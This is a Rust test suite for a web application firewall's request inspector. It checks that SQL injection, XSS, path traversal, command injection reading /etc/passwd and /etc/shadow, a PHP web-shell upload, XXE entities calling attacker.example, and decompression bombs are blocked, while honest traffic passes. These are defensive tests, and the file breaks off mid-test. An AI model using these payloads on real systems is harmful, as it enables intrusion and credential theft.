use super::*;
use crate::config::load;

fn compiled(json: &str) -> Compiled {
    load(json.as_bytes()).unwrap()
}

fn headers(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn get(c: &Compiled, path: &str, hdrs: &[(&str, &str)]) -> Outcome {
    let h = headers(hdrs);
    let head = Head {
        method: "GET",
        authority: "api.example.com",
        path,
        headers: &h,
        has_body: false,
    };
    match inspect_head(c, &head) {
        Step::Done(o) => o,
        Step::NeedBody(_) => panic!("GET without body asked for a body"),
    }
}

fn post(c: &Compiled, path: &str, content_type: &str, body: &[u8]) -> Outcome {
    let len = body.len().to_string();
    let h = headers(&[("content-type", content_type), ("content-length", &len)]);
    let head = Head {
        method: "POST",
        authority: "api.example.com",
        path,
        headers: &h,
        has_body: true,
    };
    match inspect_head(c, &head) {
        Step::Done(o) => o,
        Step::NeedBody(p) => inspect_body(c, &p, body),
    }
}

#[test]
fn benign_get_is_allowed() {
    let c = compiled("{}");
    let o = get(
        &c,
        "/api/products?q=O%27Brien&sort=price&page=2",
        &[("user-agent", "Mozilla/5.0")],
    );
    assert_eq!(o.verdict, Verdict::Allow);
    assert_eq!(o.decision(), Decision::allow());
}

#[test]
fn query_attack_is_blocked_with_rule_and_field() {
    let c = compiled("{}");
    let o = get(&c, "/api/products?id=1%27%20OR%20%271%27%3D%271", &[]);
    assert_eq!((o.verdict, o.status), (Verdict::Deny, 403));
    assert_eq!(o.reason, "sqli_detected");
    let top = o.top.clone().unwrap();
    assert_eq!(top.field, "query.id");
    assert!(
        o.detail.contains("rule sqli-") && o.detail.contains("query string"),
        "{}",
        o.detail
    );
    assert!(!o.detail.contains("OR"), "payload echoed: {}", o.detail);
    let d = o.decision();
    assert!(d.security_event);
    assert_eq!(d.details["category"], "sqli");
    assert_eq!(d.details["field"], "query.id");
}

#[test]
fn plus_is_a_space_and_double_encoding_is_undone() {
    let c = compiled("{}");
    assert_eq!(
        get(&c, "/s?q=1+union+select+1,2", &[]).verdict,
        Verdict::Deny
    );
    let o = get(&c, "/s?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", &[]);
    assert_eq!(o.reason, "traversal_detected");
}

#[test]
fn headers_cookies_and_scanners() {
    let c = compiled("{}");
    assert_eq!(
        get(&c, "/", &[("user-agent", "sqlmap/1.7")]).reason,
        "scanner_detected"
    );
    assert_eq!(
        get(
            &c,
            "/",
            &[("cookie", "a=1; session=%3Cscript%3Ealert(1)%3C/script%3E")]
        )
        .top
        .unwrap()
        .field,
        "cookie.session"
    );
    assert_eq!(
        get(&c, "/", &[("referer", "javascript:alert(1)")]).reason,
        "xss_detected"
    );
}

#[test]
fn every_header_is_inspected_but_the_skipped_ones() {
    let c = compiled("{}");
    for (name, value) in [
        ("x-note", "' or 1=1--"),
        (
            "x-forwarded-for",
            "1.2.3.4' union select password from users--",
        ),
        ("x-api-version", "<script>alert(1)</script>"),
        ("x-file", "../../../../etc/passwd"),
        ("x-run", "; cat /etc/shadow"),
        ("x-custom", "{{7*7}}${7*7}<%= 7*7 %>"),
        ("origin", "javascript:alert(document.cookie)"),
    ] {
        let o = get(&c, "/", &[(name, value)]);
        assert_eq!(o.verdict, Verdict::Deny, "{name}: {value}");
        assert_eq!(o.top.unwrap().field, format!("header.{name}"));
        assert!(o.detail.contains("headers"), "{}", o.detail);
    }
    // Skipped by default: credentials and framing (checked elsewhere).
    for name in ["authorization", "proxy-authorization", "transfer-encoding"] {
        assert_eq!(
            get(&c, "/", &[(name, "' or 1=1--")]).verdict,
            Verdict::Allow,
            "{name}"
        );
    }
    // Content negotiation, the body's type and the trace context are read (and logged) by
    // servers: inspected.
    for name in ["accept-language", "accept", "content-type", "traceparent"] {
        assert_eq!(
            get(&c, "/", &[(name, "' or 1=1--")]).verdict,
            Verdict::Deny,
            "{name}"
        );
    }
    // Pseudo-headers are the path and method, inspected as such, never twice.
    assert_eq!(
        get(&c, "/", &[(":path", "/?q=' or 1=1--")]).verdict,
        Verdict::Allow
    );
    // The skip list is configurable: a replacement, exact names or prefixes.
    let custom = compiled(r#"{"headers": {"skip": ["x-legacy-*", "authorization"]}}"#);
    assert_eq!(
        get(&custom, "/", &[("x-legacy-sql", "' or 1=1--")]).verdict,
        Verdict::Allow
    );
    assert_eq!(
        get(&custom, "/", &[("accept", "' or 1=1--")]).verdict,
        Verdict::Deny
    );
}

#[test]
fn honest_headers_are_not_findings() {
    let c = compiled("{}");
    let browser = [
        ("host", "shop.example.com"),
        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
        ("user-agent", "curl/8.5.0"),
        ("user-agent", "okhttp/4.12.0"),
        ("user-agent", "python-requests/2.31.0"),
        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\", \"Google Chrome\";v=\"120\""),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("sec-fetch-mode", "cors"),
        ("referer", "https://shop.example.com/search?q=red+shoes&page=2"),
        ("cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"),
        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
        ("if-none-match", "W/\"0815-xyz\", \"67ab43\""),
        ("x-forwarded-for", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
        ("x-forwarded-proto", "https"),
        ("x-request-id", "f058ebd6-02f7-4d3f-942e-904344e8cde5"),
        ("x-amzn-trace-id", "Root=1-67891233-abcdef012345678912345678"),
        ("x-csrf-token", "i8XNjC4b8KVok4uw5RftR38Wgp2BFwql"),
        ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
        ("cache-control", "no-cache, no-store, max-age=0, must-revalidate"),
        ("range", "bytes=200-1000, 2000-6576"),
        ("x-idempotency-key", "order-2026-12-07/ada@example.com"),
        ("dnt", "1"),
        ("upgrade-insecure-requests", "1"),
        ("origin", "https://shop.example.com"),
        ("x-client-version", "ios/17.2 (build 4711; iPhone14,2)"),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("content-type", "application/json; charset=utf-8"),
        ("content-type", "application/x-www-form-urlencoded"),
        ("content-type", "multipart/form-data; boundary=------------------------d74496d66958873e"),
        ("content-type", "multipart/form-data; boundary=Boundary_1_1234567_1700000000000"),
        ("content-type", "text/plain;charset=UTF-8"),
        ("content-type", "application/vnd.api+json"),
        ("content-type", "application/grpc-web+proto"),
        ("content-type", "text/xml; charset=\"ISO-8859-1\""),
        ("content-encoding", "gzip"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
        ("accept", "application/json, text/plain, */*"),
        ("accept", "*/*"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("accept-language", "en-US,en;q=0.9,de;q=0.8"),
        ("accept-language", "zh-Hans-CN,zh-CN;q=0.9,*;q=0.5"),
        ("accept-charset", "utf-8, iso-8859-1;q=0.5"),
        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
        ("tracestate", "congo=ucfJifl5GOE,rojo=00f067aa0ba902b7"),
        ("tracestate", "dd=s:1;o:rum;t.dm:-0,sentry=abc@def=1"),
        ("cookie", "_ga=GA1.1.1987654321.1700000000; _gid=GA1.1.2.3; __Host-session=Zm9vYmFy; __Secure-id=1; JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; PHPSESSID=abc123; csrftoken=xyz; consent"),
    ];
    for (name, value) in browser {
        let o = get(&c, "/", &[(name, value)]);
        assert_eq!((o.verdict, o.score), (Verdict::Allow, 0), "{name}: {value}");
    }
}

#[test]
fn json_keys_and_values() {
    let c = compiled("{}");
    let benign = br#"{"name":"O'Brien","note":"It's 5 o'clock; price $9.99 (20% off)","tags":["a","b"],"n":3}"#;
    assert_eq!(
        post(&c, "/echo", "application/json", benign).verdict,
        Verdict::Allow
    );
    let o = post(
        &c,
        "/login",
        "application/json",
        br#"{"username":"admin","password":{"$ne":null}}"#,
    );
    assert_eq!(o.reason, "nosql_detected");
    assert_eq!(o.top.unwrap().field, "body.password{key}");
    let o = post(
        &c,
        "/login",
        "application/json",
        br#"{"<script>x</script>":1}"#,
    );
    assert_eq!(o.top.unwrap().field, "body{key}");
    let o = post(
        &c,
        "/echo",
        "application/json",
        br#"{"items":[{"q":"<svg onload=alert(1)>"}]}"#,
    );
    assert_eq!(o.top.unwrap().field, "body.items[*].q");
}

#[test]
fn malformed_and_oversized_json() {
    let c = compiled(r#"{"json": {"max_depth": 4, "max_fields": 5}}"#);
    let o = post(&c, "/echo", "application/json", b"{\"a\": ");
    assert_eq!((o.status, o.reason.as_str()), (400, "malformed_json"));
    // A payload in the first of two values for one key: serde_json would keep only the second,
    // an upstream parser that keeps the first would get the payload.
    let o = post(
        &c,
        "/echo",
        "application/json",
        br#"{"q":"1' OR '1'='1","q":"books"}"#,
    );
    assert_eq!((o.status, o.reason.as_str()), (400, "json_duplicate_key"));
    let o = post(
        &c,
        "/echo",
        "application/json",
        br#"{"a":{"b":{"c":{"d":{"e":1}}}}}"#,
    );
    assert_eq!(o.reason, "json_too_deep");
    let o = post(&c, "/echo", "application/json", br#"[1,2,3,4,5,6]"#);
    assert_eq!(o.reason, "json_too_many_fields");
    // Far deeper than serde_json's own recursion limit: a clean 400, no stack overflow.
    let deep = "[".repeat(100_000);
    let c = compiled("{}");
    assert_eq!(
        post(&c, "/echo", "application/json", deep.as_bytes()).reason,
        "json_too_deep"
    );
}

#[test]
fn body_limit_just_under_and_over() {
    let c = compiled(r#"{"body_limit": 100}"#);
    let under = format!("{{\"a\":\"{}\"}}", "x".repeat(92));
    assert_eq!(under.len(), 100);
    assert_eq!(
        post(&c, "/echo", "application/json", under.as_bytes()).verdict,
        Verdict::Allow
    );
    let over = format!("{{\"a\":\"{}\"}}", "x".repeat(93));
    let o = post(&c, "/echo", "application/json", over.as_bytes());
    assert_eq!((o.status, o.reason.as_str()), (413, "body_too_large"));
    // Without a content-length (chunked), the body check catches it.
    let h = headers(&[("content-type", "application/json")]);
    let head = Head {
        method: "POST",
        authority: "h",
        path: "/echo",
        headers: &h,
        has_body: true,
    };
    let Step::NeedBody(p) = inspect_head(&c, &head) else {
        panic!()
    };
    assert_eq!(p.limit, 100);
    assert_eq!(body_over_limit(&c, &p).status, 413);
    assert_eq!(inspect_body(&c, &p, over.as_bytes()).status, 413);
}

#[test]
fn forms_and_text() {
    let c = compiled("{}");
    let o = post(
        &c,
        "/f",
        "application/x-www-form-urlencoded",
        b"user=bob&cmd=8.8.8.8%3B+cat+%2Fetc%2Fpasswd",
    );
    assert_eq!(o.verdict, Verdict::Deny);
    let o = post(
        &c,
        "/f",
        "application/x-www-form-urlencoded",
        b"user[$ne]=x",
    );
    assert_eq!(o.reason, "nosql_detected");
    assert_eq!(
        post(
            &c,
            "/f",
            "application/x-www-form-urlencoded",
            b"name=Zo%C3%AB+O%27Brien&city=M%C3%BCnchen"
        )
        .verdict,
        Verdict::Allow
    );
    assert_eq!(
        post(&c, "/t", "text/plain", b"{{7*7}}").reason,
        "ssti_detected"
    );
    assert_eq!(
        post(
            &c,
            "/t",
            "text/markdown",
            b"# Title\n\nSome *markdown* with `code` and a [link](https://x.y)."
        )
        .verdict,
        Verdict::Allow
    );
}

#[test]
fn multipart_fields_and_files() {
    let c = compiled("{}");
    let ct = "multipart/form-data; boundary=B";
    let ok = b"--B\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nhello\r\n--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gif\"\r\nContent-Type: image/gif\r\n\r\nGIF89a...\r\n--B--\r\n";
    assert_eq!(post(&c, "/u", ct, ok).verdict, Verdict::Allow);
    let shell = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: image/gif\r\n\r\nGIF89a<?php\r\n--B--\r\n";
    let o = post(&c, "/u", ct, shell);
    assert_eq!(
        (o.reason.as_str(), o.top.unwrap().rule.id),
        ("upload_detected", "upload-extension")
    );
    let fake = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gif\"\r\nContent-Type: image/gif\r\n\r\n<?php system($_GET[1]);\r\n--B--\r\n";
    assert_eq!(
        post(&c, "/u", ct, fake).top.unwrap().rule.id,
        "upload-magic-bytes"
    );
    let field =
        b"--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1 union select 1\r\n--B--\r\n";
    assert_eq!(post(&c, "/u", ct, field).reason, "sqli_detected");
    let truncated = b"--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nabc";
    assert_eq!(post(&c, "/u", ct, truncated).reason, "malformed_multipart");
    let traversal = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd.txt\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--B--\r\n";
    assert_eq!(post(&c, "/u", ct, traversal).reason, "traversal_detected");
}

#[test]
fn unknown_content_types_follow_policy() {
    let text = compiled("{}");
    assert_eq!(
        post(
            &text,
            "/x",
            "application/x-thing",
            b"<a>../../etc/passwd</a>"
        )
        .verdict,
        Verdict::Deny
    );
    let allow = compiled(r#"{"unknown_content_type": "allow"}"#);
    assert_eq!(
        post(
            &allow,
            "/x",
            "application/x-thing",
            b"<a>../../etc/passwd</a>"
        )
        .verdict,
        Verdict::Allow
    );
    let refuse = compiled(r#"{"unknown_content_type": "refuse"}"#);
    let o = post(&refuse, "/x", "application/x-thing", b"<a/>");
    assert_eq!(
        (o.status, o.reason.as_str()),
        (415, "unsupported_media_type")
    );
}

#[test]
fn method_and_content_type_allow_lists() {
    let c = compiled(
        r#"{"allowed_methods": ["GET", "POST"], "allowed_content_types": ["application/json", "text/*"]}"#,
    );
    let h = headers(&[]);
    let head = Head {
        method: "DELETE",
        authority: "h",
        path: "/x",
        headers: &h,
        has_body: false,
    };
    let Step::Done(o) = inspect_head(&c, &head) else {
        panic!()
    };
    assert_eq!((o.status, o.reason.as_str()), (405, "method_not_allowed"));
    assert_eq!(
        post(&c, "/x", "application/x-www-form-urlencoded", b"a=1").status,
        415
    );
    assert_eq!(post(&c, "/x", "text/csv", b"a,b").verdict, Verdict::Allow);
}

#[test]
fn shadow_mode_decides_but_lets_through() {
    let c = compiled(r#"{"mode": "shadow"}"#);
    let o = get(&c, "/?q=%3Cscript%3E", &[]);
    assert_eq!((o.verdict, o.status), (Verdict::WouldDeny, 403));
    let d = o.decision();
    assert_eq!(d.outcome, DecisionOutcome::ShadowDeny);
    assert!(d.security_event);
}

#[test]
fn route_exceptions_and_exclusions() {
    let c = compiled(
        r#"{"routes": [
            {"match": {"path": "/cms/**"}, "exclude": [{"field": "body.html", "categories": ["xss"]}]},
            {"match": {"path": "/internal/**"}, "inspect": false},
            {"match": {"path": "/strict/**"}, "paranoia": 3}
        ]}"#,
    );
    let page = br#"{"html":"<p onclick=\"go()\">Hi</p><iframe src=\"/x\"></iframe>","title":"ok"}"#;
    assert_eq!(
        post(&c, "/cms/pages", "application/json", page).verdict,
        Verdict::Allow
    );
    assert_eq!(
        post(&c, "/echo", "application/json", page).verdict,
        Verdict::Deny
    );
    // Excluded for XSS only: SQL injection in the same field is still blocked.
    let sql = br#"{"html":"x' or 1=1--"}"#;
    assert_eq!(
        post(&c, "/cms/pages", "application/json", sql).verdict,
        Verdict::Deny
    );
    assert_eq!(
        get(&c, "/internal/x?q=%3Cscript%3E", &[]).verdict,
        Verdict::Allow
    );
    // Paranoia: a bare SQL statement scores only at level 2 and above.
    assert_eq!(
        get(&c, "/api?q=SELECT+*+FROM+users", &[]).verdict,
        Verdict::Allow
    );
    let strict = get(&c, "/strict/x?q=SELECT+*+FROM+users&r=%3Cb%3E", &[]);
    assert_eq!(strict.verdict, Verdict::Deny);
}

#[test]
fn threshold_adds_up_findings() {
    let c = compiled(r#"{"threshold": 8}"#);
    // One single `../` (warning, 3) plus a NUL byte (error, 4) → 7: below 8.
    assert_eq!(get(&c, "/?a=x/../y&b=c%00", &[]).verdict, Verdict::Allow);
    let c = compiled(r#"{"threshold": 7}"#);
    assert_eq!(get(&c, "/?a=x/../y&b=c%00", &[]).verdict, Verdict::Deny);
}

#[test]
fn schema_validation_names_the_field() {
    let c = compiled(
        r#"{"routes": [{"match": {"path": "/orders", "methods": ["POST"]}, "schema":
            {"type": "object", "required": ["sku", "qty"], "properties": {
              "sku": {"type": "string", "pattern": "^[A-Z]{3}-[0-9]{4}$"},
              "qty": {"type": "integer", "minimum": 1, "maximum": 100}}}}]}"#,
    );
    assert_eq!(
        post(
            &c,
            "/orders",
            "application/json",
            br#"{"sku":"ABC-1234","qty":2}"#
        )
        .verdict,
        Verdict::Allow
    );
    let o = post(
        &c,
        "/orders",
        "application/json",
        br#"{"sku":"ABC-1234","qty":500}"#,
    );
    assert_eq!(
        (o.status, o.reason.as_str(), o.detail.as_str()),
        (400, "schema_violation", "$.qty: must be ≤ 100")
    );
    assert_eq!(post(&c, "/orders", "text/plain", b"x").status, 415);
    // Attacks are still 403, before the schema.
    assert_eq!(
        post(
            &c,
            "/orders",
            "application/json",
            br#"{"sku":"' or 1=1--","qty":2}"#
        )
        .status,
        403
    );
}

#[test]
fn names_are_cleaned_for_logs() {
    assert_eq!(clean_name("query.a b<c>"), "query.a?b?c?");
    assert_eq!(clean_name("body.x{key}"), "body.x{key}");
    assert_eq!(clean_name(&"x".repeat(100)).chars().count(), 65);
}

#[test]
fn a_repeated_value_counts_in_every_field_with_that_fields_exclusions() {
    // The detectors run once per distinct short value; each occurrence still scores, and an
    // exclusion still covers only its own field.
    let c = compiled(
        r#"{"threshold": 10, "routes": [
            {"match": {"path": "/cms/**"}, "exclude": [{"field": "body.html", "categories": ["xss"]}]}
        ]}"#,
    );
    let once = br#"{"a":"<script>x</script>"}"#;
    assert_eq!(
        post(&c, "/echo", "application/json", once).verdict,
        Verdict::Allow
    );
    let twice = br#"{"a":"<script>x</script>","b":"<script>x</script>"}"#;
    let o = post(&c, "/echo", "application/json", twice);
    assert_eq!(o.verdict, Verdict::Deny);
    assert_eq!(o.findings, 2);
    let excluded = br#"{"html":"<script>x</script>","b":"<script>x</script>"}"#;
    let o = post(&c, "/cms/pages", "application/json", excluded);
    assert_eq!(o.verdict, Verdict::Allow);
    assert_eq!(o.findings, 1);
}

fn post_with(c: &Compiled, hdrs: &[(&str, &str)], body: &[u8]) -> Outcome {
    let len = body.len().to_string();
    let mut h = headers(hdrs);
    h.push(("content-length".into(), len));
    let head = Head {
        method: "POST",
        authority: "api.example.com",
        path: "/x",
        headers: &h,
        has_body: true,
    };
    match inspect_head(c, &head) {
        Step::Done(o) => o,
        Step::NeedBody(p) => inspect_body(c, &p, body),
    }
}

#[test]
fn multipart_parameter_tricks() {
    let c = compiled("{}");
    let ct = "multipart/form-data; boundary=B";
    // RFC 2231/5987 extended parameters: the decoded name and filename are what servers use.
    let star = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"; filename*=UTF-8''..%2F..%2Fshell.php\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--B--\r\n";
    let o = post(&c, "/u", ct, star);
    assert_eq!(o.verdict, Verdict::Deny, "{o:?}");
    let name_star = b"--B\r\nContent-Disposition: form-data; name*=UTF-8''q%27%20union%20select%201--\r\n\r\nx\r\n--B--\r\n";
    assert_eq!(post(&c, "/u", ct, name_star).verdict, Verdict::Deny);
    // A part with two Content-Disposition lines: which one a server reads is anyone's guess.
    let twice = b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--B--\r\n";
    let o = post(&c, "/u", ct, twice);
    assert_eq!((o.status, o.reason.as_str()), (400, "multipart_ambiguous"));
    // Two boundary parameters.
    let o = post(
        &c,
        "/u",
        "multipart/form-data; boundary=B; boundary=C",
        b"--B\r\n\r\n--B--",
    );
    assert_eq!(
        (o.status, o.reason.as_str()),
        (400, "content_type_ambiguous")
    );
    // Content-Transfer-Encoding is not part of form-data (RFC 7578 4.7).
    let cte = b"--B\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJyBvciAxPTEtLQ==\r\n--B--\r\n";
    let o = post(&c, "/u", ct, cte);
    assert_eq!((o.status, o.reason.as_str()), (400, "multipart_ambiguous"));
    // An honest extended filename is decoded and allowed.
    let ok = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--B--\r\n";
    assert_eq!(post(&c, "/u", ct, ok).verdict, Verdict::Allow);
}

#[test]
fn xml_bodies_are_tokenized_and_external_entities_refused() {
    let c = compiled("{}");
    for ct in ["application/xml", "text/xml", "application/soap+xml"] {
        let xxe = br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#;
        let o = post(&c, "/x", ct, xxe);
        assert_eq!((o.verdict, o.status), (Verdict::Deny, 403), "{ct} {o:?}");
        assert_eq!(o.reason, "xml_entity_detected", "{ct}");
        let param =
            br#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>"#;
        assert_eq!(post(&c, "/x", ct, param).reason, "xml_entity_detected");
        let public = br#"<!DOCTYPE r PUBLIC "-//A//B" "http://attacker.example/r.dtd"><r/>"#;
        assert_eq!(post(&c, "/x", ct, public).reason, "xml_entity_detected");
        // An attribute value, entity-encoded, is decoded before the detectors see it.
        let attr = br#"<a href="&#106;avascript:alert(1)">x</a>"#;
        assert_eq!(post(&c, "/x", ct, attr).verdict, Verdict::Deny, "{ct}");
        let soap = br#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetUser xmlns:m="urn:u"><m:id>1 UNION SELECT password FROM users--</m:id></m:GetUser></soap:Body></soap:Envelope>"#;
        assert_eq!(post(&c, "/x", ct, soap).reason, "sqli_detected", "{ct}");
        let cdata = b"<r><![CDATA[<script>alert(1)</script>]]></r>";
        assert_eq!(post(&c, "/x", ct, cdata).reason, "xss_detected", "{ct}");
        let honest = br#"<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><order id="42"><note>Tom &amp; Jerry's "best" mug &lt;3</note><price>12.99</price></order></soap:Body></soap:Envelope>"#;
        let o = post(&c, "/x", ct, honest);
        assert_eq!((o.verdict, o.score), (Verdict::Allow, 0), "{ct}");
        let o = post(&c, "/x", ct, b"<r><unclosed></r>");
        assert_eq!(
            (o.status, o.reason.as_str()),
            (400, "malformed_xml"),
            "{ct}"
        );
    }
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn compressed_bodies_are_inflated_or_refused() {
    let c = compiled("{}");
    let attack = br#"{"q":"1' UNION SELECT password FROM users--"}"#;
    let json = ("content-type", "application/json");
    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &gzip(attack));
    assert_eq!(o.reason, "sqli_detected", "{o:?}");
    let o = post_with(&c, &[json, ("content-encoding", "deflate")], &zlib(attack));
    assert_eq!(o.reason, "sqli_detected", "{o:?}");
    let honest = br#"{"q":"red shoes"}"#;
    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &gzip(honest));
    assert_eq!(o.verdict, Verdict::Allow, "{o:?}");
    // A bomb: a megabyte of zeros compresses a thousandfold.
    let bomb = gzip(&vec![b' '; 1 << 20]);
    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &bomb);
    assert_eq!(
        (o.status, o.reason.as_str()),
        (413, "decompression_bomb"),
        "{o:?}"
    );
    // Within the ratio but beyond the body limit once inflated.
    let small = compiled(r#"{"body_limit": 1000, "max_decompression_ratio": 10000}"#);
    let big = gzip(format!("{{\"a\":\"{}\"}}", "x".repeat(5000)).as_bytes());
    let o = post_with(&small, &[json, ("content-encoding", "gzip")], &big);
    assert_eq!(
        (o.status, o.reason.as_str()),
        (413, "body_too_large"),
        "{o:?}"
    );
    let o = post_with(
        &c,
        &[json, ("content-encoding", "gzip")],
        b"not gzip at all",
    );
    assert_eq!(
        (o.status, o.reason.as_str()),
        (400, "malformed_compressed_body")
    );
    for enc in ["br", "gzip, gzip", "zstd"] {
        let o = post_with(&c, &[json, ("content-encoding", enc)], &gzip(honest));
        assert_eq!(
            (o.status, o.reason.as_str()),
            (415, "unsupported_content_encoding"),
            "{enc}"
        );
    }
    let o = post_with(&c, &[json, ("content-encoding", "identity")], honest);
    assert_eq!(o.verdict, Verdict::Allow);
    let refuse = compiled(r#"{"compressed_bodies": "refuse"}"#);
    let o = post_with(
        &refuse,
        &[json, ("content-encoding", "gzip")],
        &gzip(honest),
    );
    assert_eq!(
        (o.status, o.reason.as_str()),
        (415, "unsupported_content_encoding")
    );
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn other_charsets_are_decoded_or_refused() {
    let c = compiled("{}");
    let attack = "q=1' UNION SELECT password FROM users--";
    let form = "application/x-www-form-urlencoded; charset=utf-16le";
    let o = post_with(&c, &[("content-type", form)], &utf16le(attack));
    assert_eq!(o.reason, "sqli_detected", "{o:?}");
    let mut bom = vec![0xff, 0xfe];
    bom.extend(utf16le("<script>alert(1)</script>"));
    let o = post_with(&c, &[("content-type", "text/plain; charset=utf-16")], &bom);
    assert_eq!(o.reason, "xss_detected", "{o:?}");
    let be: Vec<u8> = "<script>alert(1)</script>"
        .chars()
        .flat_map(|ch| (ch as u32).to_be_bytes())
        .collect();
    let o = post_with(&c, &[("content-type", "text/plain; charset=UTF-32BE")], &be);
    assert_eq!(o.reason, "xss_detected", "{o:?}");
    let latin = b"q=caf\xe9' union select 1--";
    let o = post_with(
        &c,
        &[("content-type", "text/plain; charset=iso-8859-1")],
        latin,
    );
    assert_eq!(o.reason, "sqli_detected", "{o:?}");
    let o = post_with(
        &c,
        &[("content-type", "text/plain; charset=shift_jis")],
        b"abc",
    );
    assert_eq!((o.status, o.reason.as_str()), (415, "unsupported_charset"));
    let honest = utf16le("q=red shoes");
    let o = post_with(&c, &[("content-type", form)], &honest);
    assert_eq!(o.verdict, Verdict::Allow, "{o:?}");
    let o = post_with(&c, &[("content-type", form)], &[0x41]);
    assert_eq!((o.status, o.reason.as_str()), (400, "malformed_charset"));
    let strict = compiled(r#"{"charsets": "utf8_only"}"#);
    let o = post_with(&strict, &[("content-type", form)], &honest);
    assert_eq!((o.status, o.reason.as_str()), (415, "unsupported_charset"));
    let o = post_with(
        &strict,
        &[("content-type", "text/plain; charset=utf-8")],
        b"ok",
    );
    assert_eq!(o.verdict, Verdict::Allow);
}

#[test]
fn graphql_documents_are_inspected() {
    let c = compiled(
        r#"{"routes": [{"match": {"path": "/graphql"}, "refuse_graphql_introspection": true}]}"#,
    );
    let gql = |c: &Compiled, path: &str, body: &str| {
        let len = body.len().to_string();
        let h = headers(&[
            ("content-type", "application/json"),
            ("content-length", &len),
        ]);
        let head = Head {
            method: "POST",
            authority: "a",
            path,
            headers: &h,
            has_body: true,
        };
        match inspect_head(c, &head) {
            Step::Done(o) => o,
            Step::NeedBody(p) => inspect_body(c, &p, body.as_bytes()),
        }
    };
    // A string argument inside the document is a value like any other.
    let q = r#"{"query":"{ user(name: \"x' UNION SELECT password FROM users--\") { id } }"}"#;
    assert_eq!(gql(&c, "/graphql", q).reason, "sqli_detected");
    let block =
        r#"{"query":"mutation { post(body: \"\"\"<script>alert(1)</script>\"\"\") { id } }"}"#;
    assert_eq!(gql(&c, "/graphql", block).reason, "xss_detected");
    let intro = r#"{"query":"query { __schema { types { name } } }"}"#;
    let o = gql(&c, "/graphql", intro);
    assert_eq!(
        (o.status, o.reason.as_str()),
        (403, "graphql_introspection")
    );
    let aliased = r#"{"query":"{ a: __type(name: \"User\") { fields { name } } }"}"#;
    assert_eq!(gql(&c, "/graphql", aliased).reason, "graphql_introspection");
    // Not opted in: introspection is allowed elsewhere.
    assert_eq!(gql(&c, "/other", intro).verdict, Verdict::Allow);
    // A string that merely mentions __schema is not introspection.
    let mention = r#"{"query":"{ search(text: \"__schema\") { id } }"}"#;
    assert_eq!(gql(&c, "/graphql", mention).verdict, Verdict::Allow);
    let honest = r#"{"query":"query Order($id: ID!) { order(id: $id) { id items(first: 10) { sku name } } }","variables":{"id":"42"},"operationName":"Order"}"#;
    let o = gql(&c, "/graphql", honest);
    assert_eq!((o.verdict, o.score), (Verdict::Allow, 0));
    let bad = r#"{"query":"{ user(name: \"unterminated) { id } }"}"#;
    assert_eq!(gql(&c, "/graphql", bad).reason, "malformed_graphql");
}

#[test]
fn graphql_body_with_invalid_utf8_is_refused() {
    // H1: one invalid byte used to turn the document into "" and let the SQLi through.
    let c = compiled("{}");
